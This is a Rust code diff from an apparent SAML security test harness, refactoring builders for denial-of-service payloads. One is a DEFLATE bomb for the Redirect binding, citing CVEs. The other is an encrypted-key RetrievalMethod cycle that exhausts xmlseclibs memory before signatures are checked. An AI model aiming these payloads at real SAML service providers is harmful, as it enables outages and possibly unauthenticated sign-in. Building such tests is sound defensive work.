@@ -62,6 +62,28 @@ fn padding_blocks() -> Result<&'static [u8], String> {
         .map_err(|e| format!("could not deflate the bomb: {e}"))
 }
 
+/// `xml` without its XML declaration (nothing may come before one).
+fn undeclared(xml: &str) -> &str {
+    match xml.trim_start().strip_prefix("<?xml") {
+        Some(declared) => declared
+            .split_once("?>")
+            .map_or(xml, |(_, rest)| rest)
+            .trim_start(),
+        None => xml.trim_start(),
+    }
+}
+
+/// `xml` (its XML declaration dropped) after [`BOMB_PADDING`] line feeds, raw-DEFLATE
+/// compressed (RFC 1951, as the Redirect binding compresses): about 33 KB.
+pub fn after_padding(xml: &str) -> Result<Vec<u8>, Skip> {
+    let xml = undeclared(xml);
+    let deflated = padding_blocks().map_err(Skip::Failed)?.to_vec();
+    let mut deflater = flate2::write::DeflateEncoder::new(deflated, flate2::Compression::best());
+    let failed = |e: std::io::Error| Skip::Failed(format!("could not deflate the bomb: {e}"));
+    deflater.write_all(xml.as_bytes()).map_err(failed)?;
+    deflater.finish().map_err(failed)
+}
+
 /// The IdP's own response for this login after [`BOMB_PADDING`] line feeds (its XML
 /// declaration dropped, as nothing may come before one), raw-DEFLATE compressed (RFC 1951, as
 /// the Redirect binding compresses) and base64-encoded. An SP that inflates whatever it is
@@ -70,19 +92,8 @@ fn padding_blocks() -> Result<&'static [u8], String> {
 /// < 0.9.0 CVE-2023-26483; crewjam/saml CVE-2023-28119 inflated Redirect messages unbounded).
 pub fn deflate_bomb(f: &Forge) -> Result<Burden, Skip> {
     Doc::parse(f.seed)?;
-    let response = match f.seed.trim_start().strip_prefix("<?xml") {
-        Some(declared) => declared
-            .split_once("?>")
-            .map_or(f.seed, |(_, rest)| rest)
-            .trim_start(),
-        None => f.seed.trim_start(),
-    };
-    let mut deflated = padding_blocks().map_err(Skip::Failed)?.to_vec();
-    let mut deflater = flate2::write::DeflateEncoder::new(deflated, flate2::Compression::best());
-    let failed = |e: std::io::Error| Skip::Failed(format!("could not deflate the bomb: {e}"));
-    deflater.write_all(response.as_bytes()).map_err(failed)?;
-    deflated = deflater.finish().map_err(failed)?;
-    let posted = encoded(deflated);
+    let response = undeclared(f.seed);
+    let posted = encoded(after_padding(response)?);
     Ok(Burden {
         yardstick: random_text_as_long_as(posted.len()),
         yardstick_is: "same-size random letters and digits",
@@ -157,8 +168,9 @@ pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
     })
 }
 
-/// The namespace of the elements the dos burdens and yardsticks put inside a signature: a
-/// foreign one, which the content of ds:Transform (`##other`) and ds:Object (`##any`) allows.
+/// The namespace of the elements the dos burdens and yardsticks put inside a signature or in
+/// `samlp:Extensions`: a foreign one, which the content of ds:Transform (`##other`),
+/// ds:Object (`##any`) and samlp:Extensions (`##other`) allows.
 const FOREIGN_NS: &str = "urn:saml-harness:dos";
 
 /// A `<w>` declaring [`FOREIGN_NS`] as the default namespace, holding `inner` (unprefixed
@@ -424,23 +436,31 @@ pub const CYCLE_BULK: usize = 10_000;
 /// The Id the encrypted-key cycle gives the content key's EncryptedKey.
 const CYCLE_KEY_ID: &str = "_cycle-key";
 
-/// The IdP's own response, its Assertion encrypted to the SP (unless the IdP did), the content
-/// key's EncryptedKey moved beside EncryptedData (which names it by a `ds:RetrievalMethod`)
-/// and given a KeyInfo whose RetrievalMethod names that EncryptedKey itself, with
-/// [`CYCLE_BULK`] empty elements in `samlp:Extensions`. xmlseclibs 3.x resolves a RetrievalMethod to an EncryptedKey and then
+/// The Id the yardstick's inner RetrievalMethod names instead: as long, and no element's.
+const NO_KEY_ID: &str = "_cycle-keX";
+const _: () = assert!(CYCLE_KEY_ID.len() == NO_KEY_ID.len());
+
+/// The IdP's own response, its Assertion encrypted to the SP (unless the IdP did; the
+/// Response's signature, which the edits break, dropped), the content key's EncryptedKey
+/// moved beside EncryptedData (which names it by a `ds:RetrievalMethod`) and given a KeyInfo
+/// whose RetrievalMethod names that EncryptedKey itself, with [`CYCLE_BULK`] empty elements in
+/// `samlp:Extensions`. xmlseclibs 3.x resolves a RetrievalMethod to an EncryptedKey and then
 /// that key's own KeyInfo, with no depth limit, while it decrypts and before any signature is
 /// checked: the cycle runs until PHP's memory limit, each turn a search of the whole
 /// document. The yardstick is the same response with the key's RetrievalMethod naming an Id
 /// no element has (as long): one turn, then a refusal. An SP that takes the EncryptedKey
 /// beside EncryptedData directly may decrypt either and sign the user in.
 pub fn encrypted_key_cycle(f: &Forge) -> Result<Burden, Skip> {
+    let seed = Doc::parse(f.seed)?;
     // The IdP may encrypt the assertion already (the app has a token encryption certificate).
-    let sealed = match bytes::child(
-        Doc::parse(f.seed)?.root(),
-        ASSERTION_NS,
-        "EncryptedAssertion",
-    ) {
-        Some(_) => f.seed.to_owned(),
+    let sealed = match bytes::child(seed.root(), ASSERTION_NS, "EncryptedAssertion") {
+        Some(_) => bytes::splice(
+            f.seed,
+            bytes::signature_of(seed.root())
+                .map(|s| (s.range(), String::new()))
+                .into_iter()
+                .collect(),
+        ),
         None => crate::family::enc::encrypted(
             f,
             f.seed,
@@ -460,13 +480,10 @@ pub fn encrypted_key_cycle(f: &Forge) -> Result<Burden, Skip> {
         bytes::child(key_info, XENC_NS, "EncryptedKey").ok_or_else(|| missing("EncryptedKey"))?;
     let method = bytes::child(key, XENC_NS, "EncryptionMethod")
         .ok_or_else(|| missing("EncryptedKey EncryptionMethod"))?;
+    // The key's own KeyInfo (an IdP may name the SP's certificate there) gives way to the cycle.
+    let after_own_key_info = bytes::child(key, DSIG_NS, "KeyInfo").unwrap_or(method);
     let issuer =
         bytes::child(doc.root(), ASSERTION_NS, "Issuer").ok_or_else(|| missing("Issuer"))?;
-    // samlp:Extensions goes after the Issuer and the Response's Signature, if any.
-    let header_end = bytes::signature_of(doc.root())
-        .unwrap_or(issuer)
-        .range()
-        .end;
     let name = bytes::qualified_name(doc.src, key);
     let xenc = name.strip_suffix("EncryptedKey").unwrap_or_default();
     let ds = bytes::qualified_name(doc.src, key_info)
@@ -478,19 +495,19 @@ pub fn encrypted_key_cycle(f: &Forge) -> Result<Burden, Skip> {
     let with_key_naming = |id: &str| {
         let own_key = format!(
             "<{name} {} Id=\"{CYCLE_KEY_ID}\">{}<{ds}KeyInfo {}>{}</{ds}KeyInfo>{}</{name}>",
-            declaration(xenc, XENC_NS),
+            bytes::declaration(xenc, XENC_NS),
             doc.outer(method),
-            declaration(ds, DSIG_NS),
+            bytes::declaration(ds, DSIG_NS),
             retrieval(id),
-            &doc.src[method.range().end..bytes::before_end_tag(doc.src, key)],
+            &doc.src[after_own_key_info.range().end..bytes::before_end_tag(doc.src, key)],
         );
         bytes::splice(
             doc.src,
             vec![
                 bytes::insert(
-                    header_end,
+                    issuer.range().end,
                     format!(
-                        "<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">{bulk}</samlp:Extensions>"
+                        "<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\"><bulk xmlns=\"{FOREIGN_NS}\">{bulk}</bulk></samlp:Extensions>"
                     ),
                 ),
                 (key.range(), retrieval(CYCLE_KEY_ID)),
@@ -499,25 +516,15 @@ pub fn encrypted_key_cycle(f: &Forge) -> Result<Burden, Skip> {
         )
     };
     let burden = with_key_naming(CYCLE_KEY_ID);
-    let nowhere = format!("{}X", &CYCLE_KEY_ID[..CYCLE_KEY_ID.len() - 1]);
     Ok(Burden {
         encoded: encoded(&burden),
         shown: burden.replace(&bulk, &format!("<a/>… ({CYCLE_BULK} of them)")),
-        yardstick: encoded(with_key_naming(&nowhere)),
+        yardstick: encoded(with_key_naming(NO_KEY_ID)),
         yardstick_is: "the same response with the key's RetrievalMethod naming no element",
         ratio: SAME_WORK_RATIO,
         floor: BURDEN_FLOOR,
         ignorable: true,
     })
-}
-
-/// The `xmlns` attribute binding `prefix` (as written before a name: `xenc:`, or empty for
-/// the default namespace) to `ns`.
-fn declaration(prefix: &str, ns: &str) -> String {
-    match prefix.strip_suffix(':') {
-        Some(p) => format!("xmlns:{p}=\"{ns}\""),
-        None => format!("xmlns=\"{ns}\""),
-    }
 }
 
 /// How many attributes the many-attributes burden puts on one element: each distinct, so a
@@ -754,7 +761,7 @@ mod tests {
             .unwrap()
         };
         let (burden, yardstick) = (decode(&cycle.encoded), decode(&cycle.yardstick));
-        for (xml, inner) in [(&burden, CYCLE_KEY_ID), (&yardstick, "_cycle-keX")] {
+        for (xml, inner) in [(&burden, CYCLE_KEY_ID), (&yardstick, NO_KEY_ID)] {
             let doc = roxmltree::Document::parse(xml).unwrap();
             let data = doc
                 .descendants()
